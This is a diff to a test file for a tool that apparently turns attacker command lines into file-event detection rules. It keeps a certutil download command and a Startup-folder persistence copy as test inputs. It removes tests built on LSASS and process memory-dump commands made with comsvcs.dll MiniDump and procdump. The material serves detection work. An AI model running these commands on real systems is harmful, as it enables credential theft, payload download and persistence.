@@ -39,7 +39,7 @@ describe('file-event rules on the files the programs write', () => {
     expect(fires(rule?.rule as object, 'certutil -urlcache -f http://198.51.100.9/z.txt C:\\Users\\Public\\z.txt')).toBe(false);
   });
 
-  it('keys a startup item on the folder and its kind, and a dump on the dumper and its kind', () => {
+  it('keys a startup item on the folder and its kind', () => {
     const startup = fileRules(
       'windows',
       'copy C:\\ProgramData\\q.lnk "%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\q.lnk"',
@@ -48,13 +48,6 @@ describe('file-event rules on the files the programs write', () => {
       'TargetFilename|contains': '\\Start Menu\\Programs\\Startup\\',
       'TargetFilename|endswith': '.lnk',
     });
-    const [dump] = fileRules('windows', 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 C:\\ProgramData\\q1.dmp full');
-    expect(dump?.rule.title).toBe('Process Memory Dump Written');
-    expect(dump?.rule.detection['selection']).toEqual({ 'Image|endswith': '\\rundll32.exe', 'TargetFilename|endswith': '.dmp' });
-    expect(fires(dump?.rule as object, 'rundll32 comsvcs.dll,#24 640 C:\\Windows\\Temp\\x.dmp full')).toBe(true);
-    const [procdump] = fileRules('windows', 'procdump64.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\out.dmp');
-    expect(procdump?.rule.detection['selection']).toEqual({ 'Image|endswith': '\\procdump64.exe', 'TargetFilename|endswith': '.dmp' });
-    expect(fires(procdump?.rule as object, 'procdump.exe -ma lsass.exe C:\\Windows\\Temp\\out.dmp')).toBe(false);
   });
 
   it('makes no rule of a made-up name, a document or output in common folders', () => {
